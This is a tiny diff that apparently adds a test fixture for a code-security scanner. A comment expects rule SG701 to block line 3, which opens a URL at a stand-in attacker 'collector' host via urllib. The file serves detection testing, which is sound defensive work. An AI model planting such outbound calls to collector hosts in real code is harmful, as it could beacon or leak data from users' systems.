@@ -1,0 +1,3 @@
+# expect: block SG701@3
+import urllib.request as ur
+ur.urlopen("http://collector.evil.example.net/")
